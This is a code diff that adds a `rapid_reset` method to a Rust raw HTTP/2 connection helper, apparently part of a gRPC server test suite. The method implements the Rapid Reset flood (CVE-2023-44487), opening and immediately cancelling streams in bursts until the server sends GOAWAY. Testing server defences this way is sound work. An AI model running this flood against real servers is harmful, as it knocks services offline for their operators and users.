@@ -323,6 +323,38 @@ impl RawConn {
         }
     }
 
+    /// Rapid reset (CVE-2023-44487): opens streams from `first_stream` on with a complete request to `path`
+    /// (HEADERS, then DATA with `message` and END_STREAM) and resets each at once (RST_STREAM CANCEL), written in
+    /// `bursts` bursts of `per_burst` without waiting for anything, until the server sends GOAWAY. Returns how
+    /// many streams were opened and the first GOAWAY's code (waiting for one after the last burst).
+    pub async fn rapid_reset(
+        &mut self,
+        first_stream: u32,
+        path: &str,
+        message: &[u8],
+        bursts: usize,
+        per_burst: usize,
+    ) -> (u32, Option<u32>) {
+        let mut stream = first_stream;
+        'flood: for _ in 0..bursts {
+            let mut burst = Vec::new();
+            for _ in 0..per_burst {
+                burst.extend(frame(HEADERS, END_HEADERS, stream, &block(&grpc_fields(path))));
+                burst.extend(frame(DATA, END_STREAM, stream, message));
+                burst.extend(rst_stream(stream, CANCEL));
+                stream += 2;
+            }
+            self.send(&burst).await;
+            while let Ok(Some(f)) = tokio::time::timeout(Duration::ZERO, self.next()).await {
+                if f.kind == GOAWAY {
+                    break 'flood;
+                }
+            }
+        }
+        let code = if self.goaways.is_empty() { self.goaway().await } else { self.goaways.first().copied() };
+        ((stream - first_stream) / 2, code)
+    }
+
     /// A complete unary call on `stream` (request headers, one DATA frame with END_STREAM); how it ended.
     pub async fn call(&mut self, stream: u32, path: &str, message: &[u8]) -> StreamEnd {
         self.open(stream, path).await;
